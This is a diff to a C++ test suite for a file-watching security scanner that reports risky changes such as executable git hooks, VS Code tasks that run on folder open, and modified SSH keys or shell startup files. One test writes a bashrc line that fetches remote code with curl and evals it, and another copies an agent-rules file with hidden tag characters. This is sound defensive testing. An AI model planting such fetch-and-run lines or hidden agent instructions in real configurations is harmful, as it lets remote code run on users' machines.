@@ -2,8 +2,9 @@
 // executable bit, a touch that changes only attributes), an editor's save-by-rename gives one finding
 // per rule, and the watcher finds on the pack's samples exactly what an audit finds.
 
-#include "LiveWatcher.h"
 #include "RuleCases.h"
+#include "ScanRunner.h"
+#include "WatcherHarness.h"
 
 #include <algorithm>
 #include <gtest/gtest.h>
@@ -14,29 +15,31 @@ using namespace tw::test;
 
 namespace {
 
-bool hasWord(const Event& e, const std::string& word)
-{
-    return std::find(e.types.begin(), e.types.end(), word) != e.types.end();
-}
-
 class RulesLive : public ::testing::Test
 {
 protected:
     void SetUp() override
     {
-        useConfigHome(m_config.path());
-        m_watcher = std::make_unique<LiveWatcher>(m_config.path());
-        m_watcher->watch(m_tree.path());
-        ASSERT_TRUE(m_watcher->sync(m_tree.path())) << m_watcher->errors();
+        m_watcher = std::make_unique<Watcher>();
+        m_watcher->send({m_tree.path()});
+        ASSERT_TRUE(m_watcher->sync(m_tree.path())) << m_watcher->log();
     }
     void TearDown() override { m_watcher.reset(); }
 
     // Everything written before has been evaluated once a later probe comes back.
-    void settle() { ASSERT_TRUE(m_watcher->sync(m_tree.path())) << m_watcher->errors(); }
+    void settle() { ASSERT_TRUE(m_watcher->sync(m_tree.path())) << m_watcher->log(); }
+    std::vector<WatchLine> found(const fs::path& path, const std::string& rule) const
+    {
+        return m_watcher->linesFor(path.string(), rule);
+    }
+    bool waitFor(const fs::path& path, const std::string& rule) const
+    {
+        return m_watcher->waitForLine(
+            [&](const WatchLine& l) { return l.path == path.string() && l.rule == rule; });
+    }
 
-    TempDir m_config;
     TempDir m_tree;
-    std::unique_ptr<LiveWatcher> m_watcher;
+    std::unique_ptr<Watcher> m_watcher;
 };
 
 TEST_F(RulesLive, HookGainingTheExecutableBitIsReported)
@@ -45,13 +48,13 @@ TEST_F(RulesLive, HookGainingTheExecutableBitIsReported)
     fs::create_directories(hook.parent_path());
     writeFile(hook, "#!/bin/sh\nnpx lint-staged\n");
     settle();
-    EXPECT_TRUE(m_watcher->eventsFor(hook, "git_hook_added").empty()) << "git ignores a hook it cannot run";
+    EXPECT_TRUE(found(hook, "git_hook_added").empty()) << "git ignores a hook it cannot run";
 
     fs::permissions(hook, fs::perms::owner_exec, fs::perm_options::add);
-    ASSERT_TRUE(m_watcher->waitFor(hook, "git_hook_added")) << m_watcher->errors();
-    const auto found = m_watcher->eventsFor(hook, "git_hook_added");
-    EXPECT_EQ(found[0].severity, "high");
-    EXPECT_TRUE(hasWord(found[0], "attributes"));
+    ASSERT_TRUE(waitFor(hook, "git_hook_added")) << m_watcher->log();
+    const auto hits = found(hook, "git_hook_added");
+    EXPECT_EQ(hits[0].severity, "high");
+    EXPECT_TRUE(hits[0].hasType("attributes"));
 }
 
 TEST_F(RulesLive, EditorSaveByRenameGivesOneFinding)
@@ -63,11 +66,11 @@ TEST_F(RulesLive, EditorSaveByRenameGivesOneFinding)
         "runOptions": { "runOn": "folderOpen" } }] })";
     writeFile(tasks.string() + ".tmp~", text);
     fs::rename(tasks.string() + ".tmp~", tasks);
-    ASSERT_TRUE(m_watcher->waitFor(tasks, "vscode_task_runs_on_open")) << m_watcher->errors();
+    ASSERT_TRUE(waitFor(tasks, "vscode_task_runs_on_open")) << m_watcher->log();
     settle();
-    const auto found = m_watcher->eventsFor(tasks, "vscode_task_runs_on_open");
-    EXPECT_EQ(found.size(), 1u);
-    EXPECT_EQ(found[0].severity, "high");
+    const auto hits = found(tasks, "vscode_task_runs_on_open");
+    EXPECT_EQ(hits.size(), 1u);
+    EXPECT_EQ(hits[0].severity, "high");
 }
 
 // chmod 600 and touch are routine for these files; a change of their content is not.
@@ -80,39 +83,40 @@ TEST_F(RulesLive, AttributeOnlyChangesOfKeysAndStartupFilesStayQuiet)
         keys,
         "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv dev@laptop\n");
     writeFile(bashrc, "alias ll='ls -la'\n");
-    ASSERT_TRUE(m_watcher->waitFor(keys, "ssh_authorized_key_added")) << m_watcher->errors();
-    ASSERT_TRUE(m_watcher->waitFor(bashrc, "shell_startup_file_changed")) << m_watcher->errors();
+    ASSERT_TRUE(waitFor(keys, "ssh_authorized_key_added")) << m_watcher->log();
+    ASSERT_TRUE(waitFor(bashrc, "shell_startup_file_changed")) << m_watcher->log();
     settle();
-    const auto keysBefore = m_watcher->eventsFor(keys, "ssh_authorized_key_added").size();
-    const auto bashrcBefore = m_watcher->eventsFor(bashrc, "shell_startup_file_changed").size();
+    const auto keysBefore = found(keys, "ssh_authorized_key_added").size();
+    const auto bashrcBefore = found(bashrc, "shell_startup_file_changed").size();
 
     fs::permissions(keys, fs::perms::owner_read | fs::perms::owner_write);
     fs::permissions(bashrc, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
     settle();
-    EXPECT_EQ(m_watcher->eventsFor(keys, "ssh_authorized_key_added").size(), keysBefore);
-    EXPECT_EQ(m_watcher->eventsFor(bashrc, "shell_startup_file_changed").size(), bashrcBefore);
+    EXPECT_EQ(found(keys, "ssh_authorized_key_added").size(), keysBefore);
+    EXPECT_EQ(found(bashrc, "shell_startup_file_changed").size(), bashrcBefore);
 
     writeFile(bashrc, "alias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n");
-    ASSERT_TRUE(m_watcher->waitFor(bashrc, "shell_startup_runs_payload")) << m_watcher->errors();
-    const auto found = m_watcher->eventsFor(bashrc, "shell_startup_runs_payload");
-    EXPECT_EQ(found[0].severity, "critical");
-    EXPECT_TRUE(hasWord(found[0], "modified"));
+    ASSERT_TRUE(waitFor(bashrc, "shell_startup_runs_payload")) << m_watcher->log();
+    const auto hits = found(bashrc, "shell_startup_runs_payload");
+    EXPECT_EQ(hits[0].severity, "critical");
+    EXPECT_TRUE(hits[0].hasType("modified"));
 }
 
 TEST_F(RulesLive, HiddenTagCharactersInANewAgentFile)
 {
     const fs::path agents = m_tree / "AGENTS.md";
     fs::copy_file(testDataDir() / "rules" / "samples" / "agents" / "AGENTS-tags.md", agents);
-    ASSERT_TRUE(m_watcher->waitFor(agents, "agent_rules_hidden_tag_characters")) << m_watcher->errors();
-    EXPECT_EQ(m_watcher->eventsFor(agents, "agent_rules_hidden_tag_characters")[0].severity, "critical");
+    ASSERT_TRUE(waitFor(agents, "agent_rules_hidden_tag_characters")) << m_watcher->log();
+    EXPECT_EQ(found(agents, "agent_rules_hidden_tag_characters")[0].severity, "critical");
 }
 
-// "path rule (severity)" for each finding, the probe's left out.
-std::set<std::string> findings(const std::vector<Event>& events)
+// "path rule (severity)" for each finding, the harness's match-everything lines left out.
+template <typename Line>
+std::set<std::string> findings(const std::vector<Line>& events)
 {
     std::set<std::string> out;
     for (const auto& e : events)
-        if (e.rule != "live_probe")
+        if (e.rule != matchEverything)
             out.insert(e.path + " " + e.rule + " (" + e.severity + ")");
     return out;
 }
@@ -132,22 +136,21 @@ std::string lines(const std::set<std::string>& from, const std::set<std::string>
 // an audit compiles a set per scope. Both must find the same on every sample of the pack.
 TEST(RulesModes, WatcherFindsWhatAnAuditFinds)
 {
-    TempDir config;
     TempDir tree;
     TempDir staging;
-    useConfigHome(config.path());
     // The pack's conditions check paths themselves; this file's rules rely on its scope alone.
-    writeUserRule(config.path(), "scoped.yar",
-                  "// twwatch-scope: package.json */.git/hooks/*\n"
-                  "rule user_scoped { meta: severity = \"high\" condition: true }\n"
-                  "rule user_scoped_refused { condition: true }\n");
+    WatcherSetup setup;
+    setup.rules.emplace_back("scoped.yar", "// twwatch-scope: package.json */.git/hooks/*\n"
+                                           "rule user_scoped { meta: severity = \"high\" condition: true }\n"
+                                           "rule user_scoped_refused { condition: true }\n");
     // The folders are there before the watcher starts, and each sample arrives whole by a rename, so
     // the watcher never evaluates a half-copied file.
     for (const auto& c : ruleCases())
         fs::create_directories((tree / c.name / c.destination).parent_path());
-    LiveWatcher watcher(config.path());
-    watcher.watch(tree.path());
-    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.errors();
+    Watcher watcher(setup);
+    useConfigHome(watcher.configHome()); // the audit below reads the same rules
+    watcher.send({tree.path()});
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log();
     for (const auto& c : ruleCases()) {
         plantSample(c, staging / c.name);
         fs::rename(staging / c.name, tree / c.name / c.destination);
@@ -162,9 +165,9 @@ TEST(RulesModes, WatcherFindsWhatAnAuditFinds)
     ASSERT_TRUE(std::any_of(expected.begin(), expected.end(),
                             [](auto& f) { return f.ends_with("package.json user_scoped (high)"); }));
 
-    waitUntil([&] { return lines(expected, findings(watcher.events())).empty(); }, std::chrono::seconds(40));
-    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.errors(); // a late extra finding would be in by now
-    const std::set<std::string> live = findings(watcher.events());
+    waitUntil([&] { return lines(expected, findings(watcher.lines())).empty(); }, std::chrono::seconds(40));
+    ASSERT_TRUE(watcher.sync(tree.path())) << watcher.log(); // a late extra finding would be in by now
+    const std::set<std::string> live = findings(watcher.lines());
     EXPECT_EQ(lines(expected, live), "") << "found by the audit only";
     EXPECT_EQ(lines(live, expected), "") << "found by the watcher only";
 }
